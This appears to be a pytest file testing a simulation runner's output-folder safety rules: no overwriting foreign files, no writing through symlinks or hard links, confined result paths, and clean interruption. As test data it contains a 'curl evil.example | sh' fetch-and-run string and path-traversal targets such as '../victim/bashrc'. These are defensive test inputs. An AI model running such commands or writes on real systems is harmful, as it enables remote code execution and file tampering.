"""The output folder contract (docs/safety.md): a run owns its folder, never
deletes, replaces or writes through what it did not make, moves an earlier
result aside, and says ERROR/INTERRUPTED in files written as it goes."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from asterlite.cli import main
from asterlite.runtime import manifest
from asterlite.runtime.outdir import LOCK_NAME, OutputFolder
from asterlite.runtime.runner import run_deck


@pytest.fixture(autouse=True)
def private_manifest_key(tmp_path, monkeypatch):
    """This test's own manifest key (never the user's ~/.config)."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    manifest._key_cache.clear()


TABLE_DECK = """DEBUT()
T = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0, 2.0)))
DEFI_FICHIER(UNITE=30, FICHIER={name!r})
IMPR_TABLE(UNITE=30, TABLE=T)
FIN()
"""
PLAIN_DECK = """DEBUT()
T = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0, 2.0)))
IMPR_TABLE(UNITE=30, TABLE=T)
FIN()
"""


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text)
    return path


def snapshot(folder: Path) -> dict:
    """Every entry under ``folder`` with its content (files) or kind."""
    found = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = ("link", os.readlink(path))
        elif path.is_file():
            found[key] = path.read_bytes()
        else:
            found[key] = "dir"
    return found


def summary(folder: Path) -> dict:
    return json.loads((folder / "summary.json").read_text())


def only_run_files(folder: Path, before: set[str]) -> set[str]:
    """What the folder holds beyond ``before`` and the run's listed files."""
    listed = set(summary(folder)["output"]["files"])
    moved = summary(folder)["output"]["moved_aside"]
    return set(os.listdir(folder)) - before - listed - ({moved} if moved else set())


# ------------------------------------------------------------------ deletion


@pytest.mark.parametrize("name", [".git", "deck.comm"])
def test_a_deck_cannot_replace_what_the_folder_holds(tmp_path, name):
    out = tmp_path / "out"
    (out / ".git").mkdir(parents=True)
    (out / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (out / "deck.comm").write_text("my deck\n")
    before = snapshot(out)
    deck = write(tmp_path, "d.comm", TABLE_DECK.format(name=name))
    report = run_deck(deck, out)
    assert report.status == "ERROR" and report.exit_code == 2
    assert f"{deck}:3:" in report.message and f"already holds '{name}'" in report.message
    after = snapshot(out)
    assert {k: v for k, v in after.items() if k in before} == before
    assert only_run_files(out, set(before)) == set()


@pytest.mark.parametrize(
    "name, why",
    [
        (".running", "keeps for itself"),
        (".asterlite-running", "keeps for itself"),
        ("message.log", "keeps for itself"),
        ("summary.json", "keeps for itself"),
        ("incomplete", "keeps for itself"),
        ("..", "not a file name"),
        (".", "not a file name"),
        ("/", "not a file name"),
    ],
)
def test_names_the_run_keeps_or_no_file_names_are_located_errors(tmp_path, name, why):
    out = tmp_path / "out"
    deck = write(tmp_path, "d.comm", TABLE_DECK.format(name=name))
    report = run_deck(deck, out)
    assert report.status == "ERROR" and report.exit_code == 2, report.message
    assert f"{deck}:3:" in report.message and why in report.message
    assert only_run_files(out, set()) == set()
    assert summary(out)["status"] == "ERROR"


def test_a_complete_run_holds_only_what_it_listed(tmp_path):
    out = tmp_path / "out"
    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
    assert report.status == "DONE", report.message
    assert set(os.listdir(out)) == set(summary(out)["output"]["files"])
    assert {"message.log", "summary.json", "fort.30"} == set(os.listdir(out))


# ------------------------------------------------------------- stale results


def test_an_earlier_result_is_moved_aside_before_anything_is_written(tmp_path):
    out = tmp_path / "out"
    first = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
    assert first.status == "DONE"
    failing = write(tmp_path, "e.comm", "DEBUT()\nx = 1 / 0\nFIN()\n")
    second = run_deck(failing, out)
    assert second.status == "ERROR"
    assert summary(out)["status"] == "ERROR"
    assert not (out / "fort.30").exists()  # the earlier table is not beside the new summary
    previous = [p for p in out.iterdir() if p.name.startswith("previous-")]
    assert len(previous) == 1
    assert json.loads((previous[0] / "summary.json").read_text())["status"] == "DONE"
    assert (previous[0] / "fort.30").exists()
    assert summary(out)["output"]["moved_aside"] == previous[0].name


def test_a_summary_that_is_not_ours_stops_the_run(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "summary.json").write_text("my notes\n")
    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
    assert report.status == "ERROR" and "not an asterlite summary" in report.message
    assert os.listdir(out) == ["summary.json"]
    assert (out / "summary.json").read_text() == "my notes\n"


# ------------------------------------------------------------------ symlinks


def test_a_symlinked_message_log_is_never_written_through(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (out / "message.log").symlink_to(victim)
    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
    assert report.status == "ERROR" and report.exit_code == 2
    assert victim.read_text() == "precious\n"
    assert (out / "message.log").is_symlink()


def test_an_r_line_replaces_a_symlink_instead_of_writing_through_it(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (tmp_path / "table.resu").symlink_to(victim)
    deck = write(tmp_path, "d.comm", PLAIN_DECK)
    export = write(tmp_path, "d.export", "F comm d.comm D 1\nR resu table.resu R 30\n")
    report = run_deck(export, tmp_path / "out", result_paths=True)
    assert report.status == "DONE", report.message
    assert victim.read_text() == "precious\n"
    assert not (tmp_path / "table.resu").is_symlink()
    assert "X" in (tmp_path / "table.resu").read_text()
    assert deck.exists()


# ------------------------------------------------------------------- locking


def test_a_second_run_into_a_locked_folder_is_refused(tmp_path):
    out = tmp_path / "out"
    holder = OutputFolder(out).open()
    try:
        before = snapshot(out)
        report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
        assert report.status == "ERROR" and report.exit_code == 2
        assert "another asterlite run" in report.message
        assert snapshot(out) == before
    finally:
        holder.release()
    assert run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out).status == "DONE"
    assert not (out / LOCK_NAME).exists()


def test_an_output_option_naming_a_file_is_exit_status_2(tmp_path):
    target = write(tmp_path, "taken", "data\n")
    deck = write(tmp_path, "d.comm", PLAIN_DECK)
    assert main(["run", str(deck), "-o", str(target), "-q"]) == 2
    assert target.read_text() == "data\n"


# ------------------------------------------------------------------- signals

LOOP_DECK = """DEBUT()
T = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0, 2.0)))
IMPR_TABLE(UNITE=30, TABLE=T)
print("started")
x = 0
while True:
    x = x + 1
FIN()
"""


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_ends_the_run_cleanly_and_the_log_streams(tmp_path, number):
    out = tmp_path / "out"
    assert run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out).status == "DONE"
    deck = write(tmp_path, "loop.comm", LOOP_DECK)
    command = [sys.executable, "-m", "asterlite", "run", str(deck), "-o", str(out), "-q"]
    child = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        log = out / "message.log"
        # message.log is written as the run goes: the deck's print shows up while it loops
        while time.monotonic() < deadline:
            if log.exists() and "started" in log.read_text():
                break
            time.sleep(0.1)
        else:
            pytest.fail("message.log never showed the deck's print")
        assert summary(out)["status"] == "RUNNING"
        child.send_signal(number)
        child.wait(timeout=60)
    finally:
        child.kill()
    assert child.returncode == 2
    data = summary(out)
    assert data["status"] == "INTERRUPTED"
    assert signal.Signals(number).name in data["message"]
    assert "INTERRUPTED" in (out / "message.log").read_text()
    assert not (out / "fort.30").exists()  # the earlier run's file was moved aside
    assert (out / "incomplete" / "fort.30").exists()
    assert not (out / LOCK_NAME).exists()


# ------------------------------------------------ R lines: the write boundary

SHELL_TITLE_DECK = """DEBUT()
T = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0, 2.0)))
IMPR_TABLE(UNITE=30, TABLE=T, TITRE='curl evil.example | sh')
FIN()
"""


def study_with_r_lines(tmp_path: Path, *targets: str) -> tuple[Path, Path]:
    """A study folder (deck, export, a data file) and a victim folder beside it."""
    study = tmp_path / "study"
    study.mkdir()
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "bashrc").write_text("precious\n")
    write(study, "d.comm", SHELL_TITLE_DECK)
    write(study, "data.txt", "input data\n")
    lines = ["F comm d.comm D 1", "F libr data.txt D 21"]
    lines += [f"R resu {target} R 30" for target in targets]
    return write(study, "d.export", "\n".join(lines) + "\n"), victim


def test_r_lines_stay_in_the_output_folder_unless_the_user_allows_their_paths(tmp_path):
    export, victim = study_with_r_lines(
        tmp_path, "../victim/bashrc", "newdir/x.resu", "d.comm", "data.txt"
    )
    study = export.parent
    out = tmp_path / "out"
    report = run_deck(export, out)
    assert report.status == "DONE", report.message
    assert (victim / "bashrc").read_text() == "precious\n"
    assert not (study / "newdir").exists()
    assert (study / "d.comm").read_text() == SHELL_TITLE_DECK
    assert (study / "data.txt").read_text() == "input data\n"
    # each R line's file is kept in the output folder under its name
    for name in ("bashrc", "x.resu", "d.comm", "data.txt"):
        assert "curl evil.example" in (out / name).read_text()
    log = (out / "message.log").read_text()
    assert "kept in the output folder as bashrc (asterlite run --allow-result-paths" in log
    assert set(os.listdir(out)) == set(summary(out)["output"]["files"])


def test_allowed_result_paths_never_write_the_inputs_nor_make_folders(tmp_path):
    export, victim = study_with_r_lines(
        tmp_path, "../victim/bashrc", "newdir/x.resu", "d.comm", "data.txt", "d.export"
    )
    study = export.parent
    inputs = {name: (study / name).read_text() for name in ("d.comm", "data.txt", "d.export")}
    out = tmp_path / "out"
    assert main(["run", str(export), "-o", str(out), "-q", "--allow-result-paths"]) == 0
    assert "curl evil.example" in (victim / "bashrc").read_text()  # the user allowed it
    assert not (study / "newdir").exists()
    assert {name: (study / name).read_text() for name in inputs} == inputs
    log = (out / "message.log").read_text()
    assert log.count("it is a file the run reads") == 3
    assert "its folder does not exist" in log


@pytest.mark.parametrize("allow", [False, True])
def test_an_r_line_cannot_replace_the_runs_own_log(tmp_path, allow):
    deck = write(
        tmp_path,
        "n.comm",
        "DEBUT()\nT = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0,)))\n"
        "IMPR_TABLE(UNITE=30, TABLE=T, TITRE='all checks PASS')\n"
        "F = DEFI_FONCTION(NOM_PARA='INST', VALE=(0.0, 1.0, 1.0, 3.0))\n"
        "TEST_FONCTION(VALEUR=_F(FONCTION=F, VALE_PARA=0.5, VALE_CALC=9.0))\nFIN()\n",
    )
    export = write(
        tmp_path,
        "n.export",
        f"F comm {deck.name} D 1\nR resu out/message.log R 30\nR resu out/summary.json R 30\n",
    )
    out = tmp_path / "out"
    report = run_deck(export, out, result_paths=allow)
    assert report.status == "NOOK" and report.exit_code == 1
    log = (out / "message.log").read_text()
    assert "NOOK" in log and "all checks PASS" not in log
    assert summary(out)["status"] == "NOOK"
    assert "'message.log' is a name the run keeps for itself" in log


# ------------------------------------------------------ the lock, hard links


def test_a_hard_link_planted_as_the_lock_never_truncates_its_file(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    victim = write(tmp_path, "victim.txt", "precious\n")
    os.link(victim, out / LOCK_NAME)
    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
    assert report.status == "ERROR" and report.exit_code == 2
    assert "not an asterlite lock" in report.message
    assert victim.read_text() == "precious\n"
    assert sorted(os.listdir(out)) == [LOCK_NAME]


# ------------------------------------------- what an earlier summary may move


def forged_summary(folder: Path, files: list[str]) -> None:
    text = {"status": "PASS", "deck": "case", "output": {"files": files}}
    (folder / "summary.json").write_text(json.dumps(text))


def test_a_forged_summary_moves_nothing_it_lists(tmp_path):
    out = tmp_path / "out"
    (out / ".git").mkdir(parents=True)
    (out / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    write(out, "case.comm", "my deck\n")
    write(out, "notes.txt", "my notes\n")
    forged_summary(out, [".git", "case.comm", "notes.txt", "summary.json"])
    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
    assert report.status == "DONE", report.message
    assert (out / ".git" / "HEAD").exists() and (out / "case.comm").exists()
    assert (out / "notes.txt").read_text() == "my notes\n"
    previous = next(out.glob("previous-*"))
    assert os.listdir(previous) == ["summary.json"]  # the forged summary itself


def test_a_summary_that_does_not_verify_never_moves_the_runs_inputs(tmp_path):
    """An older (unsigned) summary moves the names asterlite always used,
    but not a deck or an input file that carries one of them."""
    out = tmp_path / "out"
    out.mkdir()
    deck = write(out, "d.comm", PLAIN_DECK)
    write(out, "fort.20", "the study's data\n")
    write(out, "fort.31", "an old result\n")
    export = write(out, "d.export", "F comm d.comm D 1\nF libr fort.20 D 20\n")
    forged_summary(out, ["d.comm", "d.export", "fort.20", "fort.31", "summary.json"])
    report = run_deck(export, out)
    assert report.status == "DONE", report.message
    assert deck.read_text() == PLAIN_DECK and (out / "fort.20").exists()
    previous = next(out.glob("previous-*"))
    assert sorted(os.listdir(previous)) == ["fort.31", "summary.json"]


def test_a_signed_summary_copied_into_another_folder_moves_nothing(tmp_path):
    deck = write(tmp_path, "d.comm", TABLE_DECK.format(name="table.txt"))
    first = tmp_path / "first"
    assert run_deck(deck, first).status == "DONE"
    assert summary(first)["manifest"]["hmac"]
    other = tmp_path / "other"
    other.mkdir()
    write(other, "table.txt", "someone's table\n")
    (other / "summary.json").write_bytes((first / "summary.json").read_bytes())
    assert run_deck(write(tmp_path, "p.comm", PLAIN_DECK), other).status == "DONE"
    assert (other / "table.txt").read_text() == "someone's table\n"


def test_a_signed_summary_moves_only_the_files_still_as_the_run_left_them(tmp_path):
    deck = write(tmp_path, "d.comm", TABLE_DECK.format(name="table.txt"))
    out = tmp_path / "out"
    assert run_deck(deck, out).status == "DONE"
    (out / "table.txt").unlink()
    write(out, "table.txt", "my own table now\n")
    assert run_deck(write(tmp_path, "p.comm", PLAIN_DECK), out).status == "DONE"
    assert (out / "table.txt").read_text() == "my own table now\n"
    previous = next(out.glob("previous-*"))
    assert sorted(os.listdir(previous)) == ["message.log", "summary.json"]


def test_a_report_written_later_is_moved_aside_with_its_run(tmp_path):
    from asterlite.report import write_report

    out = tmp_path / "out"
    assert run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out).status == "DONE"
    write_report(out)
    assert "report.html" in summary(out)["output"]["files"]
    assert run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out).status == "DONE"
    previous = next(out.glob("previous-*"))
    assert "report.html" in os.listdir(previous) and not (out / "report.html").exists()


# ------------------------------------------------------ the boundary's rules


def test_the_write_boundary_takes_single_names_and_never_follows_or_replaces(tmp_path):
    from asterlite.runtime.write_boundary import OutputFolderError, WriteBoundary

    victim = write(tmp_path, "victim.txt", "precious\n")
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "link").symlink_to(victim)
    write(folder, "taken", "mine\n")
    boundary = WriteBoundary.open(folder)
    try:
        for name in ("../escape", "a/b", "..", ".", ""):
            with pytest.raises(OutputFolderError):
                boundary.create(name)
        with pytest.raises(FileExistsError):
            boundary.create("link")  # a symlink's name is taken, never followed
        with boundary.create("new") as stream:
            stream.write("new\n")
        with pytest.raises(FileExistsError):
            boundary.move("new", boundary, "taken")  # a move never replaces
        made = boundary.lstat("new")
        os.unlink(folder / "new")
        os.link(victim, folder / "new")  # a second name of another file, planted
        with pytest.raises(FileExistsError):
            boundary.open_own("new", made)
        boundary.remove_own("new", made)  # not the entry made: left alone
    finally:
        boundary.close()
    assert victim.read_text() == "precious\n" and (folder / "new").exists()
    assert not (tmp_path / "escape").exists()
